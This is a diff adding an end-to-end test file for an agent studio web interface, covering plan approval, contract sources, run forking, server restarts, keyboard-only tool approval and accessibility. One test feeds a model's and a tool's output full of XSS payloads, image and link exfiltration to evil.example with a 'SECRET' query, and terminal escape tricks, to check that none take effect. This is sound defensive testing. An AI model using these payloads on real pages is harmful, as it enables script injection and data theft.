@@ -1,0 +1,409 @@
+// The studio in Debian's Chromium, on the server that comes with it.
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Tool } from 'agent-machines';
+import { toolAgent } from 'agent-machines/machines/tool-agent';
+import { scriptedModel } from 'agent-machines/models';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { callsOf } from '../fixtures/recorded-runs.ts';
+import { echo, held, textTool } from '../fixtures/text-tools.ts';
+import { type Browser, openBrowser } from './browser/open-browser.ts';
+import { installedFile, installFolder } from './install-folder.ts';
+import { openPage, openTab } from './studio/open-page.ts';
+import { serveBuilt, serveWorkflows } from './studio/serve-studio.ts';
+
+vi.setConfig({ testTimeout: 120_000 });
+const folder = mkdtempSync(join(tmpdir(), 'agent-machines-studio-'));
+let browser: Browser;
+let server: Awaited<ReturnType<typeof serveBuilt>>;
+
+beforeAll(async () => {
+  browser = await openBrowser();
+  server = await serveBuilt(join(folder, 'agents.db'));
+}, 300_000);
+afterAll(async () => {
+  await browser?.close();
+  await server?.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+const closing: (() => Promise<unknown>)[] = [];
+afterEach(async () => {
+  for (const close of closing.splice(0)) await close();
+});
+
+async function open(options?: Parameters<typeof openPage>[2], address = server.address) {
+  const studio = await openPage(browser, address, options);
+  closing.push(() => studio.context.close());
+  return studio;
+}
+
+/** A page of workflows of a test's own. */
+async function openOwn(workflows: Parameters<typeof serveWorkflows>[0], without?: Parameters<typeof serveWorkflows>[1]) {
+  const own = await serveWorkflows(workflows, without);
+  closing.push(() => own.close());
+  return open({}, own.address);
+}
+
+/** Kinds and keys of a run's journal. */
+async function eventsOf(studio: Awaited<ReturnType<typeof open>>, runId: string) {
+  const { entries } = await studio.get<{ entries: readonly { kind: string; key: string; outcome: { event?: { type: string } } }[] }>(
+    `/api/runs/${runId}/journal`,
+  );
+  return entries.flatMap(({ kind, outcome }) => (kind === 'event' ? [outcome.event?.type] : []));
+}
+
+const plan = 'Make a guide for writing weekly reports with AI';
+
+describe('a first question', () => {
+  it.each([
+    ['tool-agent', '17% of 2,450,000 plus 1200?', '417700'],
+    ['plan-execute', '123 * 456을 계산해줘', '56088'],
+    ['contract-agent', '지체상금률은?', '제22조'],
+    ['chat-agent', '안녕, 나는 민지야', '민지'],
+    ['guide-agent', '영상 편집에 쓸 AI 도구를 추천해줘', '컷담비'],
+  ])('is answered by %s, without a key', async (workflow, question, answer) => {
+    const studio = await open();
+    await studio.ask(question, workflow);
+    await studio.shows('.ans', answer);
+    await studio.counts('.node.on', 1);
+    await studio.counts('.edge.was .line.just', 1);
+    expect(studio.complaints).toEqual([]);
+  });
+});
+
+describe('a plan that waits', () => {
+  it('is carried out as it was changed on the page', async () => {
+    const studio = await open();
+    await studio.ask(plan, 'guide-agent');
+    await studio.shows('[data-turn="plan"]', 'Approve');
+    await studio.page.locator('.plan .pi .f').first().click();
+    await studio.page.locator('.plan input.f').fill('Collect what was done this week');
+    await studio.page.keyboard.press('Enter');
+    await studio.click('[data-act="approve"]');
+    await studio.counts('.ans', 1);
+    const runId = await studio.runId();
+    expect(await eventsOf(studio, runId)).toEqual(['EDIT', 'APPROVE']);
+    expect(JSON.stringify(await studio.get(`/api/runs/${runId}`))).toContain('Collect what was done this week');
+    expect(studio.complaints).toEqual([]);
+  });
+
+  it('is made anew when it is wished to be other, and then cancelled', async () => {
+    const studio = await open();
+    await studio.ask(plan, 'guide-agent');
+    await studio.shows('[data-turn="plan"]', 'Approve');
+    await studio.click('[data-act="revise"]');
+    await studio.page.locator('.wish input').fill('자막 추가해줘');
+    await studio.page.keyboard.press('Enter');
+    await studio.shows('.turn', 'evision 2');
+    await studio.click('[data-act="cancel"]');
+    await studio.counts('[data-turn="plan"]', 0);
+    await studio.counts('.node.on[data-state="cancelled"]', 1);
+    expect(await eventsOf(studio, await studio.runId())).toEqual(['REVISE', 'CANCEL']);
+    expect(studio.complaints).toEqual([]);
+  });
+
+  it('takes one answer, from a double click and from two tabs', async () => {
+    const studio = await open();
+    await studio.ask(plan, 'guide-agent');
+    await studio.counts('[data-turn="plan"]', 1);
+    const runId = await studio.runId();
+    const other = await openTab(studio.context, await studio.page.evaluate(() => location.href));
+    await other.counts('[data-turn="plan"]', 1);
+    await Promise.all([studio.page.locator('[data-act="approve"]').dblclick(), other.page.locator('[data-act="approve"]').click()]).catch(
+      () => undefined, // whoever comes second may find the button gone
+    );
+    for (const one of [studio, other]) {
+      await one.counts('.ans', 1);
+      await one.counts('[data-turn="plan"]', 0);
+    }
+    expect(await eventsOf(studio, runId)).toEqual(['APPROVE']);
+    // a browser says itself that the second answer was refused
+    const surprises = [...studio.complaints, ...other.complaints].filter((text) => !text.includes('409'));
+    expect(surprises).toEqual([]);
+  });
+});
+
+const contract = [
+  '# 번역 용역계약서',
+  '제1조(목적) 이 계약은 번역 용역의 조건을 정한다.',
+  '제2조(대금의 지급)\n① 갑은 을에게 대금 1,000,000원을 지급한다.\n② 갑은 대금을 납품한 날부터 45일 안에 지급한다.',
+  '제3조(비밀유지)\n을은 이 계약으로 안 비밀을 지킨다. <img src=x onerror="document.title=1">',
+].join('\n\n');
+const file = { name: 'mine.md', mimeType: 'text/markdown', buffer: Buffer.from(contract) };
+
+describe('sources', () => {
+  it('open at the article with the quote marked', async () => {
+    const studio = await open();
+    await studio.ask('지체상금률은?', 'contract-agent');
+    await studio.shows('.chips', '② 기한 안에');
+    await studio.click('.chips .chip:has-text("② 기한 안에")');
+    await studio.shows('.art mark', '② 기한 안에 인도하였으나 불합격한 때에는');
+    expect(await studio.page.locator('.art .text h3').first().textContent()).toBe('제22조(지체상금)');
+    await studio.page.keyboard.press('c');
+    await studio.shows('.art mark', '③ 갑의 사정');
+    expect(studio.complaints).toEqual([]);
+  });
+
+  it('are those of a contract that was given: its outline, what differs from the standard, and an answer from it', async () => {
+    const studio = await open();
+    await studio.click('.picks button:has-text("contract-agent")');
+    await studio.page.locator('input[type=file]').setInputFiles([file]);
+    await studio.shows('.toc', '제2조 대금의 지급');
+    await studio.click('.toc button:has-text("제3조")');
+    await studio.shows('.art .law', '을은 이 계약으로 안 비밀을 지킨다. <img');
+    await studio.click('[data-act="compare"]');
+    await studio.shows('.redline', '제2조(대금의 지급)');
+    await studio.shows('.redline ins', '');
+    expect(await studio.page.locator('.redline .grp-title').allTextContents()).toEqual([
+      expect.stringMatching(/^Missing here · \d+$/),
+      expect.stringMatching(/^Changed · \d+$/),
+    ]);
+    await studio.click('[data-act="compare"]');
+    await studio.ask('대금은 언제 지급해?');
+    await studio.shows('.ans', '45일');
+    await studio.click('.chips .chip:has-text("②")');
+    await studio.shows('.art mark', '45일 안에 지급한다');
+    expect(await studio.page.locator('.art img, .redline img').count()).toBe(0);
+    // a page that comes later knows what the run was asked about
+    const later = await openTab(studio.context, await studio.page.evaluate(() => location.href));
+    await later.click('.chips .chip:has-text("②")');
+    await later.shows('.art mark', '45일 안에 지급한다');
+    await later.shows('.doc-head', '번역 용역계약서');
+    expect([...studio.complaints, ...later.complaints]).toEqual([]);
+  });
+});
+
+describe('the time of a run', () => {
+  it('can be gone back to, and forked', async () => {
+    const studio = await open();
+    await studio.ask('123 * 456을 계산해줘', 'plan-execute');
+    await studio.shows('.ans', '56088');
+    await studio.page.locator('.track').focus();
+    await studio.page.keyboard.press('Home');
+    await studio.shows('.time-head', 'Entry 1 of');
+    await studio.counts('.node.on[data-state="done"]', 0);
+    await studio.click('[data-act="live"]');
+    await studio.counts('.node.on[data-state="done"]', 1);
+    await studio.page.locator('h2').first().click();
+    for (const key of ['Shift+K', 'Shift+K', 'f']) await studio.page.keyboard.press(key);
+    const at = await studio.page.locator('.fork .b').first().textContent();
+    await studio.click('.fork button[type=submit]');
+    await studio.counts('.one-turn', 2);
+    await studio.page.waitForFunction(() =>
+      [...document.querySelectorAll('.one-turn')].at(-1)?.querySelector('.ans')?.textContent?.includes('56088'),
+    );
+    expect(at).toMatch(/executor#1|planner#1/);
+    expect(studio.complaints).toEqual([]);
+  });
+
+  it('is in the journal, with the state after each entry and what the machine promises', async () => {
+    const studio = await open();
+    await studio.ask('17% of 2,450,000 plus 1200?', 'tool-agent');
+    await studio.shows('.ans', '417700');
+    await studio.page.locator('#tab-journal').click();
+    await studio.shows('.entries', 'settle');
+    for (const [name, text] of [
+      ['State', 'done'],
+      ['Model calls', ''],
+      ['Events', 'model-end'],
+      ['Promises', 'e'],
+    ] as const) {
+      await studio.click(`.sections .chip:has-text("${name}")`);
+      await studio.shows('.journal', text);
+    }
+    expect(await studio.page.locator('.promises li').count()).toBeGreaterThan(3);
+    expect(await studio.page.locator('.promises').textContent()).not.toContain('undefined');
+    expect(studio.complaints).toEqual([]);
+  });
+});
+
+it('goes on when its server was killed in the middle of things and started again', async () => {
+  const db = join(folder, 'killed.db');
+  let own = await serveBuilt(db);
+  closing.push(() => own.close());
+  const studio = await open({}, own.address);
+  await studio.ask(plan, 'guide-agent');
+  await studio.counts('[data-turn="plan"]', 1);
+  await own.kill();
+  await studio.click('[data-act="approve"]');
+  await studio.counts('.lost', 1);
+  await studio.counts('[data-turn="plan"]', 1);
+  own = await serveBuilt(db, own.port, own.token);
+  await studio.counts('.lost', 0);
+  await studio.click('[data-act="approve"]');
+  await studio.counts('.ans', 1);
+  expect(await eventsOf(studio, await studio.runId())).toEqual(['APPROVE']);
+  expect(studio.complaints.filter((text) => !text.includes('ERR_CONNECTION_REFUSED'))).toEqual([]);
+});
+
+it('shows where a run is while it works, also after a reload in the middle, and has the answer in the end', async () => {
+  const slow = held('slow');
+  const model = scriptedModel([{ reply: callsOf(['slow', 'x']) }, { reply: '다 했습니다.', tokens: ['다 ', '했습', '니다.'] }]);
+  const studio = await openOwn([toolAgent({ model, tools: [slow] })]);
+  await studio.ask('go');
+  await studio.counts('.node.on[data-state="tools"]', 1);
+  await studio.page.reload();
+  await studio.counts('.node.on[data-state="tools"]', 1);
+  slow.calls[0]?.resolve('at last');
+  await studio.shows('.ans', '다 했습니다.');
+  await studio.counts('.node.on[data-state="tools"]', 0);
+  expect([slow.calls.length, studio.complaints]).toEqual([1, []]);
+});
+
+const hostile = [
+  '<img src=x onerror="owned=1"> <svg onload="owned=1"></svg> <script>owned=1</script> </script><script>owned=1</script>',
+  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe> <math><mtext><script>owned=1</script></mtext></math>',
+  '[click](javascript:owned=1) [data](data:text/html,<script>owned=1</script>) [bank](https://bank.example@evil.example/) [mail](https://evil.example/?q=SECRET)',
+  '![pixel](https://evil.example/?q=SECRET) ![x](data:image/svg+xml,<svg/onload=owned=1>)',
+  '```mermaid\ngraph TD; A["<img src=x onerror=owned=1>"]\n```',
+  '\u001b]52;c;b3duZWQ=\u0007 \u001b]8;;https://evil.example\u0007text\u001b]8;;\u0007 over\rwritten \u202Etxt.exe',
+].join('\n\n');
+
+it('shows what a model and a tool say, and obeys none of it', async () => {
+  const reads = textTool('read', async () => ({ page: hostile }), { description: hostile });
+  const model = scriptedModel([{ reply: callsOf(['read', hostile]) }, { reply: hostile }]);
+  const studio = await openOwn([toolAgent({ model, tools: [reads] })]);
+  await studio.ask(hostile);
+  await studio.shows('.ans', 'bank.example');
+  await studio.click('[data-act="timeline"]');
+  await studio.click('.tl button[aria-expanded="false"]');
+  await studio.shows('.unt', 'onerror');
+  for (const tab of ['journal', 'sources', 'machine']) {
+    await studio.page.locator(`#tab-${tab}`).click();
+    for (const section of await studio.page.locator('.sections .chip').allTextContents())
+      await studio.click(`.sections .chip:has-text("${section}")`);
+  }
+  const found = await studio.page.evaluate(() => ({
+    owned: 'owned' in globalThis,
+    elements: document.querySelectorAll('img, iframe, object, embed, math, script:not([src]), .ans svg, .unt svg').length,
+    links: [...document.querySelectorAll<HTMLAnchorElement>('.ans a')].map(({ href, textContent }) => [href, textContent]),
+    unseen: [...document.querySelectorAll('body *')].flatMap(({ childNodes, className }) =>
+      [...childNodes].some(({ nodeType, nodeValue }) => nodeType === 3 && /\p{Cf}|\p{Cc}/u.test((nodeValue ?? '').replace(/[\n\t\r]/g, '')))
+        ? [String(className)]
+        : [],
+    ),
+  }));
+  expect(found).toEqual({ owned: false, elements: 0, links: [['https://evil.example/?q=SECRET', 'mail (evil.example)']], unseen: [] });
+  expect(studio.complaints).toEqual([]);
+});
+
+/** Presses what is shown only below the pointer. */
+const press = async (studio: Awaited<ReturnType<typeof open>>, selector: string): Promise<void> => {
+  await studio.page.locator('.th.on .row-link').focus();
+  await studio.click(selector);
+};
+
+it('says plainly what the server does not offer', async () => {
+  const missing = ({ method, url }: Request): boolean => /PATCH|DELETE/.test(method) || url.endsWith('/test');
+  const studio = await openOwn([toolAgent({ model: scriptedModel([{ reply: 'Hello.' }]) })], missing);
+  await studio.ask('hi');
+  await studio.shows('.ans', 'Hello.');
+  await press(studio, '.row-menu .link:has-text("Delete")');
+  await press(studio, '.row-menu .link:has-text("Delete with its runs")');
+  await studio.shows('.row-menu', 'This server does not offer that.');
+  await press(studio, '.row-menu .link:has-text("Rename")');
+  await studio.page.locator('.rename input').fill('other');
+  await studio.page.keyboard.press('Enter');
+  await studio.shows('.rename', 'This server does not offer that.');
+  expect(studio.complaints.filter((text) => !text.includes('404'))).toEqual([]);
+});
+
+const pay = (): Tool & { readonly asked: string[] } => echo('pay', { risk: 'high', needsApproval: true, description: 'Pays.' });
+
+it('can be used by the keyboard alone, through an approval', async () => {
+  const tool = pay();
+  const studio = await openOwn([
+    toolAgent({ model: scriptedModel([{ reply: callsOf(['pay', '10']) }, { reply: 'Paid.' }]), tools: [tool] }),
+  ]);
+  const { keyboard } = studio.page;
+  const isAt = (selector: string): Promise<boolean> =>
+    studio.page.evaluate((where) => document.activeElement?.matches(where) === true, selector);
+  const tabTo = async (selector: string): Promise<void> => {
+    for (let presses = 0; presses < 60 && !(await isAt(selector)); presses++) await keyboard.press('Tab');
+    expect(await isAt(selector)).toBe(true);
+  };
+  await tabTo('#composer');
+  await keyboard.type('pay');
+  await keyboard.press('Enter');
+  await studio.shows('[data-turn="call"]', '10');
+  await keyboard.press('Escape');
+  for (const key of ['a', 'y', 'Enter', ' ', 'r', 'g', 'm']) await keyboard.press(key); // no single key approves
+  expect(tool.asked).toEqual([]);
+  await tabTo('.talk [data-act="approve"]');
+  await keyboard.press('Enter');
+  await studio.shows('.ans', 'Paid.');
+  expect([tool.asked, studio.complaints]).toEqual([['10'], []]);
+});
+
+it('speaks the language of its reader, and the other one when asked', async () => {
+  const studio = await open({ locale: 'ko-KR' });
+  await studio.shows('.tab', '기계');
+  expect(await studio.page.evaluate(() => document.documentElement.lang)).toBe('ko');
+  await studio.ask(plan, 'guide-agent');
+  await studio.shows('[data-act="approve"]', '승인');
+  await studio.click('.lang');
+  await studio.shows('[data-act="approve"]', 'Approve');
+  expect(await studio.page.evaluate(() => document.documentElement.lang)).toBe('en');
+  await studio.click('[data-act="cancel"]');
+  expect(studio.complaints).toEqual([]);
+});
+
+interface AxeResult {
+  readonly violations: readonly { readonly id: string; readonly impact: string; readonly nodes: readonly { readonly html: string }[] }[];
+}
+
+describe('axe', () => {
+  let script = '';
+  beforeAll(() => {
+    installFolder('studio');
+    script = readFileSync(installedFile('studio', 'axe-core/axe.min.js'), 'utf8');
+  });
+  const serious = (studio: Awaited<ReturnType<typeof open>>): Promise<readonly string[]> =>
+    studio.page.evaluate(async () => {
+      const { violations } = await (globalThis as unknown as { readonly axe: { run(): Promise<AxeResult> } }).axe.run();
+      return violations
+        .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+        .map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(' | ')}`);
+    });
+
+  it.each([
+    ['dark', 1440],
+    ['light', 1440],
+    ['dark', 390],
+    ['light', 390],
+  ] as const)('finds nothing serious on the %s page of %i pixels', async (colorScheme, width) => {
+    const studio = await open({ script, colorScheme, viewport: { width, height: width > 500 ? 900 : 844 } });
+    const found: Record<string, readonly string[]> = {};
+    const narrow = width < 500;
+    const look = async (name: string): Promise<void> => {
+      found[name] = await serious(studio);
+    };
+    const pick = async (workflow: string): Promise<void> => {
+      if (narrow) await studio.click('.talk-col .back');
+      await studio.click('.side .head button');
+      await studio.click(`.picks button:has-text("${workflow}")`);
+    };
+    const show = async (tab: string): Promise<void> => {
+      if (narrow) await studio.page.locator('.seg3 button').nth(1).click();
+      await studio.page.locator(`#tab-${tab}`).click();
+      await look(tab);
+      if (narrow) await studio.click('.right .back');
+    };
+    await look('welcome');
+    await pick('guide-agent');
+    await studio.ask(plan);
+    await studio.counts('[data-turn="plan"]', 1);
+    await look('review');
+    await show('turn');
+    await studio.click('.talk [data-act="cancel"]');
+    await studio.counts('[data-turn="plan"]', 0);
+    await pick('contract-agent');
+    await studio.ask('대금은 언제 지급해?');
+    await studio.shows('.chips', '“');
+    await studio.click('[data-act="timeline"]');
+    await look('timeline');
+    for (const tab of ['sources', 'journal', 'machine']) await show(tab);
+    expect(found).toEqual(Object.fromEntries(Object.keys(found).map((name) => [name, []])));
+  });
+});
